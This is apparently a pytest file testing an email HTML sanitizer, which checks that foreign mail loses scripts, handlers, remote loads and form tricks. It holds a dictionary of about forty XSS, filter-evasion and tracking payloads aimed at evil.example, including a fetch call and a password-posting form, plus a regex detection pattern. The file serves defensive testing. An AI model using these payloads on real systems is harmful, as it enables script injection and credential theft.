"""R18: HTML of strangers is shown without its power; only pictures that came with the mail are there until others are asked for."""

from __future__ import annotations

import re

import pytest

from producers.workspace.harmless import DATA_LIMIT, harmless, own_html

EVIL = "https://evil.example/x.png"
PNG = "data:image/png;base64,iVBORw0KGgo="
HOSTILE = {
    "script": "<script>fetch('https://evil.example')</script>",
    "script in disguise": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": f"<img src=x onerror=\"location='{EVIL}'\">",
    "handler without a space": f"<img/src='x'/onerror=location='{EVIL}'>",
    "image": f"<img src='{EVIL}'>",
    "image without a scheme": "<img src='//evil.example/x.png'>",
    "image with blanks": f"<img src=' \t{EVIL}'>",
    "image of ours": "<img src='/logout'>",
    "srcset": f"<img srcset='{EVIL} 2x'><picture><source srcset='{EVIL}'></picture>",
    "lowsrc": f"<img lowsrc='{EVIL}' dynsrc='{EVIL}' longdesc='{EVIL}'>",
    "background": f"<table background='{EVIL}'><tr><td background='{EVIL}'>x</td></tr></table><body background='{EVIL}'>",
    "style": f"<p style=\"background:url({EVIL})\">x</p><p style='background-image:url({EVIL})'>y</p>",
    "style escaped": "<p style='background:\\75 rl(https://evil.example)'>x</p>",
    "style import": f"<style>@import '{EVIL}'; p {{ background: url({EVIL}) }}</style>",
    "style list": f"<ul style='list-style-image:url({EVIL}); list-style: url({EVIL})'><li>x</li></ul>",
    "style cursor": f"<p style='cursor:url({EVIL}),auto; content:url({EVIL}); border-image:url({EVIL}) 1'>x</p>",
    "style covers": "<p style='position:fixed; inset:0; z-index:9'>x</p>",
    "link": f"<link rel=stylesheet href='{EVIL}'><link rel=prefetch href='{EVIL}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "base": f"<base href='{EVIL}'><a href='x'>x</a>",
    "form": f"<form action='{EVIL}'><input name=p type=password><button formaction='{EVIL}'>x</button></form>",
    "frame": f"<iframe src='{EVIL}' srcdoc='<script>1</script>'></iframe><frameset><frame src='{EVIL}'></frameset>",
    "object": f"<object data='{EVIL}'></object><embed src='{EVIL}'><applet code='{EVIL}'></applet>",
    "svg": f"<svg onload=alert(1)><image href='{EVIL}'/><use href='{EVIL}'/><a href='javascript:1'>x</a></svg>",
    "math": f"<math><mtext></mtext><annotation-xml><img src='{EVIL}'></annotation-xml></math>",
    "media": f"<video src='{EVIL}' poster='{EVIL}'></video><audio src='{EVIL}'></audio><track src='{EVIL}'>",
    "javascript": "<a href='javascript:alert(1)'>x</a><a href=' java\tscript:alert(1)'>x</a><a href='&#106;avascript:1'>x</a>",
    "data link": "<a href='data:text/html,<script>1</script>'>x</a>",
    "link into ours": "<a href='/interactions/IMS0001001/close'>x</a>",
    "data page": "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "data svg": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "data not base64": "<img src='data:image/png,<svg onload=1>'>",
    "data too large": f"<img src='data:image/png;base64,{'A' * DATA_LIMIT}'>",
    "cid unknown": "<img src='cid:other'>",
    "comment": f"<!--[if mso]><img src='{EVIL}'><![endif]--><!--><script>1</script>-->",
    "noscript": f"<noscript><p title=\"</noscript><img src='{EVIL}' onerror=1>\"></noscript>",
    "template": f"<template><img src='{EVIL}'></template>",
    "xml": f"<?xml-stylesheet href='{EVIL}'?><xml><x/></xml>",
    "ping": f"<a href='https://them.example' ping='{EVIL}' download>x</a>",
    "bgsound": f"<bgsound src='{EVIL}'><layer src='{EVIL}'></layer><img usemap='#m'><map name=m><area href='{EVIL}'></map>",
}  # fmt: skip
POWER = re.compile(
    r"evil\.example|<script|<form|<input|<iframe|<object|<embed|<svg|<math|<meta|<base|<link|<style|<video|<audio|\son\w+=|"
    r"javascript:|data:|cid:|srcset|background=|url\(|position|/logout|close|ping=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("name", HOSTILE)
def test_R18_nothing_of_a_strangers_html_has_power(name: str) -> None:
    assert not POWER.search(harmless(f"<p>Hello</p>{HOSTILE[name]}").html)
    assert not POWER.search(own_html(HOSTILE[name].replace("cid:other", ""))) or name in ("data link", "link into ours")


def test_R18_pictures_that_came_with_the_mail_are_shown() -> None:
    mail = f"<img src='cid:logo%40them' alt=a><img src='CID:logo@them'><img src='{PNG}'><img src='{EVIL}'>"
    found = harmless(mail, pictures={"logo@them": PNG})
    assert found.html.count(f'src="{PNG}"') == 3 and "evil" not in found.html and found.blocked == 1


def test_R18_pictures_from_elsewhere_are_shown_once_asked_for_and_nothing_else_is() -> None:
    for name, html in HOSTILE.items():
        found = harmless(html, remote_images=True).html
        left = re.sub(rf'<img src="\s*{re.escape(EVIL)}"[^>]*>', "", found)
        assert not POWER.search(left), name
    assert EVIL in harmless(HOSTILE["image"], remote_images=True).html


def test_R18_looks_and_links_stay() -> None:
    mail = "<p style='color:red; font-weight:bold' align=center><b>Hi</b> <a href='https://them.example/a?b=c'>there</a></p>"
    found = harmless(mail).html
    assert "color:red" in found and "<b>Hi</b>" in found and 'align="center"' in found
    assert 'href="https://them.example/a?b=c"' in found and 'rel="noopener noreferrer nofollow"' in found


def test_R18_endless_html_is_no_work() -> None:
    for unit in (
        "<div>",
        "<b></div>",
        "<div><p></b>",
        "<b><i>",
        "<a href=x>",
        "<table><tr><td>",
        "<!--",
        "&lt;",
        "<p style='color:red'>",
    ):
        assert "<script" not in harmless(unit * (200_000 // len(unit))).html
